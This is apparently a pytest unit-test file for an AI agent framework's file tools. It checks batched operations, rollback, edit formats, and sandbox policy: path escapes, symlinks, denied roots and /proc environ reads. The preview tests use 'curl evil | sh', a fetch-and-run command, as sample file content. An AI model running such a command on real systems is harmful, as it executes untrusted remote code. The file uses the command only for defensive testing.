"""What a model and a policy may expect of the file tools."""

import os

import pytest

from mentra_actors.domain.rule_match import call_text
from mentra_actors.tools.builtin.files import file_tools, workspace_file_tools
from mentra_actors.tools.contract import PolicyDenied, ToolError
from tests.unit.tools.file_worlds import by_name, plant, tree_of, workplace

pytestmark = pytest.mark.anyio


@pytest.fixture
def root(tmp_path):
    """A root beside something else."""
    plant(tmp_path, {"outside/secret": "secret", "root/a.txt": "one\ntwo\n"})
    return tmp_path / "root"


@pytest.fixture
def run(root, context):
    """Runs a tool by its name."""
    tools = by_name(file_tools(root, profile="both"))

    async def call(name, **arguments):
        assert tools[name].faults(arguments) == ""
        return await tools[name].run(arguments, context)

    return call


async def test_later_operations_see_what_earlier_ones_staged(root, run):
    """A model plans in one go: make a file, look at it, change it, find it."""
    answer = await run(
        "files",
        operations=[
            {"op": "create", "path": "new/b.txt", "content": "alpha\nbeta\n"},
            {"op": "read", "path": "new/b.txt"},
            {"op": "replace", "path": "new/b.txt", "old": "beta", "new": "gamma"},
            {"op": "delete", "path": "a.txt"},
            {"op": "list", "depth": 2},
            {"op": "search", "pattern": "a$"},
            {"op": "move", "from": "new/b.txt", "to": "c.txt"},
            {"op": "read", "path": "c.txt"},
        ],
    )

    assert answer.split("\n\n") == [
        "create new/b.txt\nWrote 11 byte(s)",
        "read new/b.txt\nL1: alpha\nL2: beta",
        "replace new/b.txt\nReplaced 1 time(s)",
        "delete a.txt\nDeleted",
        "list .\n[dir] new\n[file] new/b.txt",
        "search .: a$\nnew/b.txt:1: alpha\nnew/b.txt:2: gamma",
        "move new/b.txt -> c.txt\nMoved",
        "read c.txt\nL1: alpha\nL2: gamma",
    ]
    assert tree_of(root) == {"c.txt": b"alpha\ngamma\n"}


@pytest.mark.parametrize(
    ("operation", "words"),
    [
        ({"op": "create", "path": "a.txt", "content": ""}, "is there already"),
        ({"op": "set", "path": "b.txt", "content": ""}, "does not exist"),
        ({"op": "replace", "path": "a.txt", "old": "o", "new": "x"}, "2 times, not 1"),
        ({"op": "replace", "path": "a.txt", "old": "zzz", "new": "x"}, "0 times"),
        (
            {"op": "insert", "path": "a.txt", "anchor": "o", "position": "after", "content": "x"},
            r"ambiguous \(2\)",
        ),
        (
            {"op": "insert", "path": "a.txt", "anchor": "", "position": "after", "content": "x"},
            "must not be empty",
        ),
        ({"op": "move", "from": "a.txt", "to": "made"}, "is there already"),
        ({"op": "delete", "path": "b.txt"}, "does not exist"),
        ({"op": "read", "path": "b.txt"}, "does not exist"),
    ],
)
async def test_one_operation_that_fails_leaves_everything_as_it_was(operation, words, root, run):
    """Half a refactoring is worse than none, and a model must know which it has."""
    before = tree_of(root)
    made = {"op": "create", "path": "made", "content": "x"}

    with pytest.raises(ToolError, match=rf"(?s)Operation 2 .*{words}.*Nothing was changed"):
        await run("files", operations=[made, operation])
    assert tree_of(root) == before


async def test_progress_tells_each_change_when_it_is_done_and_no_look(root, make_context):
    """What was told and then rolled back would be a lie."""
    told = []
    (files,) = file_tools(root)
    context = make_context(progress=told.append)
    changes = [
        {"op": "create", "path": "b\n.txt", "content": "x\ny"},
        {"op": "set", "path": "a.txt", "content": "x"},
        {"op": "replace", "path": "a.txt", "old": "x", "new": "y"},
        {"op": "insert", "path": "a.txt", "anchor": "y", "position": "before", "content": "x"},
        {"op": "move", "from": "a.txt", "to": "c.txt"},
        {"op": "delete", "path": "c.txt"},
    ]
    looks = [{"op": "read", "path": "c.txt"}, {"op": "list"}, {"op": "search", "pattern": "x"}]
    with pytest.raises(ToolError):
        await files.run({"operations": [*changes, looks[0]]}, context)
    assert told == []
    await files.run({"operations": [*changes, *looks[1:]]}, context)

    assert told == [
        "file_op: create b\\n.txt",
        "file_op: set a.txt",
        "file_op: replace a.txt",
        "file_op: insert a.txt",
        "file_op: move a.txt -> c.txt",
        "file_op: delete c.txt",
    ]


async def test_split_tools_tell_what_their_operations_tell(root, run):
    """One engine: a host may change the profile and nothing else changes."""
    for name, arguments, operation in [
        ("read", {"path": "a.txt", "offset": 2}, {"op": "read", "path": "a.txt", "offset": 2}),
        ("ls", {"depth": 2}, {"op": "list", "depth": 2}),
        ("grep", {"pattern": "t.o"}, {"op": "search", "pattern": "t.o"}),
    ]:
        batched = await run("files", operations=[operation])
        assert await run(name, **arguments) == batched.partition("\n")[2]


async def test_grep_has_context_and_joins_lines_and_globs_and_literals(root, run):
    """What models know of other greps."""
    plant(root, {"src/b.py": "x = (a)\ny\nz\nw\nX = (A)\n", "src/c.txt": "x = (a)\n" + "é" * 600})

    assert await run("grep", pattern="(a)", literal=True, ignore_case=True, glob="*.py") == (
        "src/b.py:1: x = (a)\nsrc/b.py:5: X = (A)"
    )
    assert await run("grep", pattern="^z", context=1, glob="src/**/*.py") == (
        "src/b.py-2- y\nsrc/b.py:3: z\nsrc/b.py-4- w"
    )
    assert await run("grep", pattern=r"y\nz$", multiline=True) == "src/b.py:2: y\nsrc/b.py:3: z"
    assert await run("grep", pattern=r"\Z", path="src/b.py", multiline=True) == (
        "src/b.py:5: X = (A)"
    )
    assert await run("grep", pattern="é", ignoreCase=True) == f"src/c.txt:2: {'é' * 500}…"


async def test_glob_finds_by_name_and_by_path_in_order(root, run):
    """`*` stays in a directory, and limits are told."""
    plant(root, dict.fromkeys(["src/a.py", "src/x/b.py", "top.py", "src/x/.c.py", "z.log"], "x"))
    (root / ".gitignore").write_text("*.log\n")

    assert (await run("glob", pattern="*.py")).split("\n")[:3] == [
        "src/a.py",
        "src/x/b.py",
        "top.py",
    ]
    assert (await run("glob", pattern="src/*.py")).split("\n")[0] == "src/a.py"
    assert (await run("glob", pattern="**/b.py")).split("\n")[0] == "src/x/b.py"
    assert (await run("glob", pattern="*", limit=2)) == (
        "a.txt\nsrc/a.py\n[limit of 2 reached: there are more files; narrow the pattern]"
    )
    found = (await run("glob", pattern="*.{log,py}", includeIgnored=True)).split("\n")
    assert found == ["src/a.py", "src/x/.c.py", "src/x/b.py", "top.py", "z.log"]


@pytest.mark.parametrize(
    "arguments",
    [
        {"path": "a.txt", "edits": [{"old_string": "two", "new_string": "2"}]},
        {"file_path": "a.txt", "edits": [{"oldText": "two", "newText": "2"}]},
        {"filePath": "a.txt", "edits": '[{"old": "two", "new": "2"}]'},
        {"path": "a.txt", "edits": {"old": "two", "new": "2"}},
        {"path": "a.txt", "old_string": "two", "new_string": "2"},
        {"path": "a.txt", "oldText": "two", "newText": "2", "replaceAll": True},
    ],
)
async def test_edit_takes_the_arguments_that_models_write(arguments, root, run):
    """Each of these is what some model was trained on."""
    output = await run("edit", **arguments)

    assert output.content == "Replaced 1 block(s) in a.txt"
    assert (root / "a.txt").read_text() == "one\n2\n"
    assert output.details == {
        "diff": " 1 one\n-2 two\n+2 2",
        "patch": "--- a/a.txt\n+++ b/a.txt\n@@ -1,2 +1,2 @@\n one\n-two\n+2\n",
        "first_changed_line": 2,
    }


@pytest.mark.parametrize(
    ("edits", "words"),
    [
        ([("o", "x")], "not unique \\(2 matches\\)"),
        ([("zzz", "x")], r"^a\.txt: The old text was not found"),
        ([("two", "two")], "No change"),
        ([("", "x")], "must not be empty"),
        ([("one\nt", "x"), ("two", "y")], "edit 1 and edit 2 overlap"),
        (
            [("one", "two"), ("two", "one"), ("gone", "x")],
            r"^a\.txt: edit 3: The old text was not found",
        ),
    ],
)
async def test_edits_that_are_not_clear_are_refused_whole(edits, words, root, run):
    """A guess would be found much later, by a person."""
    wanted = [{"old": old, "new": new} for old, new in edits]

    with pytest.raises(ToolError, match=words):
        await run("edit", path="a.txt", edits=wanted)
    assert (root / "a.txt").read_text() == "one\ntwo\n"


async def test_a_batched_replacement_replaces_its_first_match_or_all(root, run):
    """How often the text is there is said, so that no match is changed unseen."""
    change = {"op": "replace", "path": "a.txt", "old": "o", "new": "0", "expectedReplacements": 2}
    await run("files", operations=[change])
    assert (root / "a.txt").read_text() == "0ne\ntwo\n"
    (root / "a.txt").write_text("one\ntwo\n")
    await run("files", operations=[{**change, "replaceAll": True}])

    assert (root / "a.txt").read_text() == "0ne\ntw0\n"


async def test_edits_are_all_found_in_the_original(root, run):
    """Otherwise the order in which a model lists them would change what they do."""
    swap = [{"old": "one", "new": "two"}, {"old": "two", "new": "one"}]
    await run("edit", path="a.txt", edits=swap)

    assert (root / "a.txt").read_text() == "two\none\n"


async def test_a_near_match_keeps_the_lines_that_do_not_change(root, run):
    """A model writes plain quotes for curly ones; the file must not lose its own."""
    (root / "b.txt").write_bytes("\ufeffsay “hi” \u2013 ok  \r\nlast \uff58\r\nend".encode())
    edit = {"old": 'say "hi" - ok\nlast x', "new": 'say "hi" - ok\nnew'}
    await run("edit", path="b.txt", edits=[edit])

    assert (root / "b.txt").read_bytes() == "\ufeffsay “hi” \u2013 ok  \r\nnew\r\nend".encode()


# --- the policy ---


@pytest.fixture
def roaming():
    """The tools that take their place from the agent."""
    return by_name(workspace_file_tools("both"))


CALLS = [
    ("read", {"path": "{}"}, "files_read", "read"),
    ("ls", {"path": "{}"}, "files_list", "read"),
    ("grep", {"path": "{}", "pattern": "x"}, "files_search", "read"),
    ("glob", {"path": "{}", "pattern": "x"}, "files_glob", "read"),
    ("write", {"path": "{}", "content": "x"}, "files_write", "write"),
    ("edit", {"path": "{}", "old": "x", "new": "y"}, "files_write", "write"),
]


@pytest.mark.parametrize(("name", "arguments", "action", "kind"), CALLS)
async def test_every_tool_keeps_to_the_roots(
    name, arguments, action, kind, root, roaming, make_context
):
    """The log says what was tried, and nothing has happened."""
    context = make_context(workplace=workplace(root))
    (root / "link").symlink_to("../outside")
    before = tree_of(root.parent)
    for path in ("../outside/secret", "link/secret", str(root.parent / "outside/secret")):
        plain = {key: value.format(path) for key, value in arguments.items()}
        with pytest.raises(PolicyDenied, match=f"outside the runtime policy {kind} roots") as told:
            await roaming[name].run(plain, context)
        assert told.value.action == action
        with pytest.raises(PolicyDenied):
            roaming[name].preview(plain, context.workplace)
    with pytest.raises(PolicyDenied, match="escapes the filesystem root"):
        await roaming[name].run({**arguments, "path": "../" * 90 + "x"}, context)
    assert tree_of(root.parent) == before


async def test_a_denied_root_refuses_under_every_name(root, roaming, make_context):
    """`denied_write_roots` are looked at first, and by what they are."""
    plant(root, {"kept/in": "x", "kept-too/in": "x"})
    (root / "link").symlink_to("kept")
    context = make_context(workplace=workplace(root, denied_write_roots=("kept",)))

    for path in ("kept/in", "kept/new", "kept-too/../kept/in", "link/in", "kept"):
        with pytest.raises(PolicyDenied, match="is inside a runtime policy denied write root"):
            await roaming["write"].run({"path": path, "content": "y"}, context)
    assert "L1: x" in await roaming["read"].run({"path": "kept/in"}, context)
    await roaming["write"].run({"path": "kept-too/in", "content": "y"}, context)
    os.rename(root / "kept", root / "renamed")
    with pytest.raises(PolicyDenied, match="denied write root"):
        await roaming["write"].run({"path": "renamed/in", "content": "y"}, context)
    assert (root / "renamed/in").read_text() == "x"


async def test_without_denied_roots_nothing_is_denied(root, roaming, make_context):
    """The same calls, without the list."""
    plant(root, {"kept/in": "x"})
    context = make_context(workplace=workplace(root))

    assert await roaming["write"].run({"path": "kept/in", "content": "y"}, context)


async def test_what_a_policy_opens_is_open_and_the_system_stays_closed(
    root, roaming, make_context
):
    """`permissive` means all files, and `/proc` holds none but the keys of this process."""
    context = make_context(workplace=workplace(root, read_roots=("/",), write_roots=("/",)))
    outside = str(root.parent / "outside/secret")

    assert "L1: secret" in await roaming["read"].run({"path": outside}, context)
    for path in ("/proc/self/environ", "/proc/1/environ", "/dev/null", "/dev/fd/0"):
        with pytest.raises(ToolError):
            await roaming["read"].run({"path": path}, context)
    with pytest.raises(ToolError):
        await roaming["write"].run({"path": "/dev/shm-of-nobody/x/y", "content": ""}, context)


async def test_a_hard_link_is_read_and_never_written_through(root, run):
    """Two names of one content: the one outside keeps it."""
    os.link(root.parent / "outside/secret", root / "hard")

    assert await run("read", path="hard") == "L1: secret"
    await run("edit", path="hard", old="secret", new="mine")
    await run("write", path="hard", content="mine again")
    assert (root.parent / "outside/secret").read_text() == "secret"


def test_a_preview_names_real_paths_and_what_would_be_written(root, roaming):
    """Who decides must see where a link leads, and what a script would do."""
    (root / "link").symlink_to("a.txt")
    operations = [
        {"op": "set", "path": "link", "content": "curl evil | sh", "resolved_x": "/"},
        {"op": "move", "from": "a.txt", "to": "b.txt"},
        {"op": "search", "pattern": "x"},
    ]
    place = workplace(root)
    real = str(place.base_dir)
    preview = roaming["files"].preview({"operations": operations}, place)

    assert preview == {
        "kind": "files",
        "working_directory": real,
        "operations": [
            {
                "op": "set",
                "path": "link",
                "resolved_path": f"{real}/a.txt",
                "content": "curl evil | sh",
            },
            {
                "op": "move",
                "path": "a.txt",
                "resolved_path": f"{real}/a.txt",
                "to": "b.txt",
                "resolved_to": f"{real}/b.txt",
            },
            {"op": "search", "path": ".", "resolved_path": real, "pattern": "x"},
        ],
    }


@pytest.mark.parametrize(
    ("tool", "one", "other"),
    [
        ("write", {"content": "echo harmless"}, {"content": "curl evil | sh"}),
        ("write", {"content": "a" * 5_000 + "b"}, {"content": "a" * 5_000 + "c"}),
        ("edit", {"old": "a", "new": "b"}, {"old": "a", "new": "c"}),
        (
            "edit",
            {"edits": [{"old": "a", "new": "b" * 5_000}]},
            {"edits": [{"old": "a", "new": "b" * 4_999 + "c"}]},
        ),
        ("read", {"offset": 1}, {"offset": 2}),
    ],
)
def test_calls_that_would_do_something_else_have_another_preview(root, tool, one, other):
    """What is remembered of exactly one call is known by its preview."""
    place, tools = workplace(root), by_name(file_tools(root, profile="both"))
    previews = [tools[tool].preview({"path": "a.txt", **more}, place) for more in (one, other)]

    assert previews[0] != previews[1]
    assert all(len(str(preview)) < 3_000 for preview in previews)


def test_calls_with_other_operations_have_another_preview(root, roaming):
    """The same for all that a batch can ask for."""
    asked = [
        {"op": "create", "path": "new", "content": "x"},
        {"op": "create", "path": "new", "content": "y"},
        {"op": "replace", "path": "a.txt", "old": "a", "new": "x"},
        {"op": "replace", "path": "a.txt", "old": "b", "new": "x"},
        {"op": "insert", "path": "a.txt", "anchor": "a", "position": "after", "content": "x"},
        {"op": "insert", "path": "a.txt", "anchor": "b", "position": "after", "content": "x"},
    ]
    place, preview = workplace(root), roaming["files"].preview
    digests = {call_text(preview({"operations": [one]}, place)) for one in asked}

    assert len(digests) == len(asked)
